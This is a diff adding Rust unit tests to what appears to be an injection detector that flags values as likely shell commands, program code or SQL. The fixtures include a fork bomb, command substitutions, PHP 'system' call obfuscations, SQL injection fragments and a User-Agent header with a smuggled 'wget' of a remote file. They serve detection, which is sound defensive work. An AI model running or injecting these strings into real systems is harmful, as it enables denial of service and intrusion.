@@ -202,6 +202,19 @@ fn command_lines_are_accused() {
         ("';rm x #", "commented-command"),
         ("'echo A$((1+2))'", "shell-sum"),
         ("/usr/bin/id", "command-path"),
+        ("$(hostname -f)", "expansion"),
+        ("$[2+2]", "expansion"),
+        ("${a:-b}", "expansion"),
+        ("<(name)", "expansion"),
+        ("/e[t]c/x", "character-class"),
+        (":(){ :|:& };:", "fork-bomb"),
+        ("!-1!-2", "history-call"),
+        ("~+2", "tilde-folder"),
+        ("alias a=b", "alias-definition"),
+        ("x;.shell id", "database-shell"),
+        ("ls -la /srv", "whole-command"),
+        ("1&net user", "separated-word"),
+        ("'i'p a", "taken-apart"),
     ] {
         let words = shell_words(value);
         assert!(has(&words, word) && has(&words, "likely"), "{value}: {words}");
@@ -225,6 +238,13 @@ fn talk_of_commands_is_no_command_line() {
         "echo $PATH",
         "/* commentaire */",
         "what if a = b",
+        "$('.menu')",
+        "$(100)",
+        "/blog/[slug]",
+        "hop!-3",
+        "alias bob",
+        "x=>(y)",
+        "50 | top 10",
     ] {
         let words = shell_words(value);
         assert!(!has(&words, "likely"), "{value}: {words}");
@@ -252,6 +272,10 @@ fn program_code_is_accused() {
         ("%x(id)", "ruby-inside"),
         ("<% if true %>", "server-tag"),
         ("wscript.shell", "windows-object"),
+        ("(sy.(st).em)('uname');", "variable-call"),
+        ("(['system'])[0]('uname');", "variable-call"),
+        ("stream_get_contents($h)", "library-call"),
+        ("constructor [ \"prototype\" ]", "prototype-path"),
     ] {
         let words = code_words(value);
         assert!(has(&words, word) && has(&words, "likely"), "{value}: {words}");
@@ -272,6 +296,9 @@ fn talk_of_programs_is_no_code() {
         "<b>50% (environ)</b>",
         "{\"a\":{\"b\":[1,2]}}",
         "fonction(s) et date(s)",
+        "(nouveau)(occasion)",
+        "art. 4(a)(1);",
+        "array_map() vs foreach",
     ] {
         let words = code_words(value);
         assert!(!has(&words, "likely"), "{value}: {words}");
@@ -299,6 +326,40 @@ fn values_that_are_nothing_but_an_expression_are_accused_and_questions_for_every
     }
     assert!(has(&code_words("(\"system\")(\"id\")"), "likely"));
     assert!(!has(&code_words("(\"bonjour\")(\"madame\")"), "likely"));
+}
+
+#[test]
+fn json_in_statements_is_accused_and_json_is_not() {
+    for value in ["x' or data->>'$.a'='x", "'{\"a\":1}'::jsonb <@ '{}'::jsonb", "json_extract('{}','$.a')", "xor 'a' ="]
+    {
+        assert!(has(&sql_words(value), "likely"), "{value}: {}", sql_words(value));
+    }
+    for value in ["{\"a\":\"{}\"}", "json_encode()", "a -> b"] {
+        assert!(!has(&sql_words(value), "likely"), "{value}: {}", sql_words(value));
+    }
+}
+
+#[test]
+fn a_header_is_a_command_line_where_no_program_names_itself_so() {
+    fn likely(value: &str) -> bool {
+        let mut shape = Shape::default();
+        shell::read(&decoded(value), shell::Place::Header, &mut shape);
+        shape.contains(shell::Construct::Likely)
+    }
+    for value in ["cat /srv/notes.txt", "whoami", "uname -a", "Mozilla/5.0;wget http://192.0.2.1/x", "$(id)"] {
+        assert!(likely(value), "{value}");
+    }
+    for value in [
+        "curl/8.5.0",
+        "Wget/1.21.4 (linux-gnu)",
+        "php",
+        "python-requests/2.31",
+        "Mozilla/5.0 (compatible; Docker; curl)",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:52.0)",
+        "Links (2.8; Linux)",
+    ] {
+        assert!(!likely(value), "{value}");
+    }
 }
 
 #[test]
